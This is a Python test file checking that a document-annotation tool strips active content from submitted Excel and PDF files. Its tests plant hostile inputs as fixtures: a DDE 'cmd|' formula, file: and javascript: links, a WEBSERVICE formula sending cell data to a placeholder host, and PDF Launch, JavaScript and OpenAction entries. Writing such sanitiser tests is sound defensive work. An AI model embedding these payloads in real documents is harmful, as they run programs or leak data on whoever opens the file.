"""The annotated copy of a submission does nothing when it is opened or clicked."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pypdf
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from indicators.cli import main

SAMPLES = Path(__file__).parents[2] / "corpus" / "samples"


def annotated(path: Path, out: Path) -> bytes:
    assert main(["annotate", str(path), "-o", str(out), "-q"]) == 0
    return out.read_bytes()


def test_formulas_and_links_that_reach_outside_are_left_out(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(SAMPLES / "云溪县生态环境分局2025年项目绩效目标表.xlsx")
    sheet = book.worksheets[0]
    hostile = {
        "Z1": "=cmd|'/c calc'!A1",
        "Z2": '=HYPERLINK("file:///c:/x.exe","x")',
        "Z3": '=WEBSERVICE("http://x/"&A1)',
        "Z4": "=SUM(1,2)",
    }
    for place, text in hostile.items():
        sheet[place] = text
    sheet["Y1"].hyperlink = "file:///c:/windows/x.exe"
    sheet["Y2"].hyperlink = "javascript:alert(1)"
    sheet["Y3"].hyperlink = "https://www.mof.gov.cn/"
    path = tmp_path / "表.xlsx"
    book.save(path)
    with zipfile.ZipFile(io.BytesIO(annotated(path, tmp_path / "批.xlsx"))) as parts:
        texts = {name: parts.read(name).decode("utf-8", "replace") for name in parts.namelist()}
    links = "".join(text for name, text in texts.items() if name.endswith(".rels"))
    formulas = "".join(re.findall("<f>.*?</f>", "".join(texts.values())))
    assert not [gone for gone in ("cmd|", "HYPERLINK", "WEBSERVICE") if gone in formulas]
    assert "SUM(1,2)" in formulas
    assert not [gone for gone in ("file:", "javascript:") if gone in links]
    assert "https://www.mof.gov.cn/" in links
    assert openpyxl.load_workbook(tmp_path / "批.xlsx").worksheets


def test_scripts_and_programs_of_a_pdf_are_left_out(tmp_path: Path) -> None:
    writer = pypdf.PdfWriter(clone_from=SAMPLES / "云溪县农业农村局2025年项目绩效目标表.pdf")

    def action(kind: str, **more: str) -> DictionaryObject:
        values = {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
        return DictionaryObject({NameObject("/S"): NameObject(kind), **values})

    actions = [action("/Launch", F="calc.exe"), action("/JavaScript", JS="x()"), action("/URI", URI="javascript:x()")]
    actions.append(action("/URI", URI="https://www.mof.gov.cn/"))
    marks = ArrayObject()
    for item in actions:
        mark = {"/Type": NameObject("/Annot"), "/Subtype": NameObject("/Link"), "/A": item, "/Rect": ArrayObject()}
        marks.append(writer._add_object(DictionaryObject({NameObject(key): value for key, value in mark.items()})))
    scripts = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), actions[1]])})
    names = DictionaryObject({NameObject("/JavaScript"): scripts})
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    writer.pages[0][NameObject("/Annots")] = marks
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action("/Launch", F="calc.exe"))
    path = tmp_path / "表.pdf"
    writer.write(path)
    annotated(path, tmp_path / "批.pdf")
    reader = pypdf.PdfReader(tmp_path / "批.pdf")
    assert "/OpenAction" not in reader.root_object
    assert "/JavaScript" not in reader.root_object.get("/Names", {})
    left = [mark.get_object().get("/A") for page in reader.pages for mark in page.get("/Annots", [])]
    assert [str(item["/URI"]) for item in left if item and item.get("/S") != "/GoTo"] == ["https://www.mof.gov.cn/"]
